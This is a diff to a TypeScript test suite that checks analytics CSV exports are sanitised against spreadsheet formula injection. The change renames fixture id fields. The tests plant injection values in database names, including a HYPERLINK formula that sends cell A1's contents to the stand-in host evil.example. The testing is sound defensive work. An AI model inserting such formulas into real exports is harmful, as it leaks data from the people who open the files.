@@ -272,13 +272,16 @@ describe('analytics CSV exports', () => {
     const escape = (name: string) => app.db.dataSource.driver.escape(name);
     const [oldUnit, oldName] = [fx.pustu.name, fx.b[2]!.owner.name];
     const nasty = '=HYPERLINK("http://evil.example/?x="&A1,"klik")';
-    await app.db.manager.query(`UPDATE ${escape('unit')} SET name = ? WHERE id = ?`, ['+Pustu Walesi', fx.pustu.id]);
-    await app.db.manager.query(`UPDATE ${escape('employee')} SET name = ? WHERE id = ?`, [nasty, fx.b[2]!.owner.id]);
+    await app.db.manager.query(`UPDATE ${escape('unit')} SET name = ? WHERE id = ?`, ['+Pustu Walesi', fx.pustu.rowId]);
+    await app.db.manager.query(`UPDATE ${escape('employee')} SET name = ? WHERE id = ?`, [nasty, fx.b[2]!.owner.rowId]);
     await app.db.manager.query(`UPDATE ${escape('employee')} SET name = ? WHERE id = ?`, [
       '@SUM(1+1)',
-      fx.b[1]!.owner.id,
+      fx.b[1]!.owner.rowId,
     ]);
-    await app.db.manager.query(`UPDATE ${escape('employee')} SET name = ? WHERE id = ?`, ['-2+3', fx.b[0]!.owner.id]);
+    await app.db.manager.query(`UPDATE ${escape('employee')} SET name = ? WHERE id = ?`, [
+      '-2+3',
+      fx.b[0]!.owner.rowId,
+    ]);
     try {
       const dist = await getCsv(url('analytics/distribution.csv'), fx.tokens.hr);
       expect(dist.rows.find((r) => r.key === unitGid(fx.pustu))!.label).toBe("'+Pustu Walesi");
@@ -290,10 +293,10 @@ describe('analytics CSV exports', () => {
       // Ordinary names are left alone.
       expect(byNip[fx.lead.nip]!.name).toBe('Lead Pustu');
     } finally {
-      await app.db.manager.query(`UPDATE ${escape('unit')} SET name = ? WHERE id = ?`, [oldUnit, fx.pustu.id]);
+      await app.db.manager.query(`UPDATE ${escape('unit')} SET name = ? WHERE id = ?`, [oldUnit, fx.pustu.rowId]);
       await app.db.manager.query(`UPDATE ${escape('employee')} SET name = ? WHERE id = ?`, [
         oldName,
-        fx.b[2]!.owner.id,
+        fx.b[2]!.owner.rowId,
       ]);
     }
   });
@@ -304,25 +307,25 @@ describe('analytics CSV exports', () => {
     const units = [fx.dinkes, fx.pkm, fx.pustu];
     const saved = {
       people: (await app.db.manager.query(
-        `SELECT id, name FROM ${escape('employee')} WHERE id IN (${people.map((m) => m.owner.id).join(', ')})`,
+        `SELECT id, name FROM ${escape('employee')} WHERE id IN (${people.map((m) => m.owner.rowId).join(', ')})`,
       )) as Array<{ id: number; name: string }>,
       titles: (await app.db.manager.query(
         `SELECT id, position_title FROM ${escape('appraisal')} WHERE id IN (${people.map((m) => dbIdOf(m.plan.id)).join(', ')})`,
       )) as Array<{ id: number; position_title: string }>,
       units: (await app.db.manager.query(
-        `SELECT id, name FROM ${escape('unit')} WHERE id IN (${units.map((u) => u.id).join(', ')})`,
+        `SELECT id, name FROM ${escape('unit')} WHERE id IN (${units.map((u) => u.rowId).join(', ')})`,
       )) as Array<{ id: number; name: string }>,
     };
     const payload = (i: number) => CSV_PAYLOADS[i % CSV_PAYLOADS.length]!;
     for (const [i, m] of people.entries()) {
-      await app.db.manager.query(`UPDATE ${escape('employee')} SET name = ? WHERE id = ?`, [payload(i), m.owner.id]);
+      await app.db.manager.query(`UPDATE ${escape('employee')} SET name = ? WHERE id = ?`, [payload(i), m.owner.rowId]);
       await app.db.manager.query(`UPDATE ${escape('appraisal')} SET position_title = ? WHERE id = ?`, [
         payload(i + people.length),
         dbIdOf(m.plan.id),
       ]);
     }
     for (const [i, u] of units.entries())
-      await app.db.manager.query(`UPDATE ${escape('unit')} SET name = ? WHERE id = ?`, [payload(i + 6), u.id]);
+      await app.db.manager.query(`UPDATE ${escape('unit')} SET name = ? WHERE id = ?`, [payload(i + 6), u.rowId]);
     try {
       const files = [...KINDS.map((k) => `analytics/${k}.csv`), 'appraisal-results.csv'];
       const texts: string[] = [];
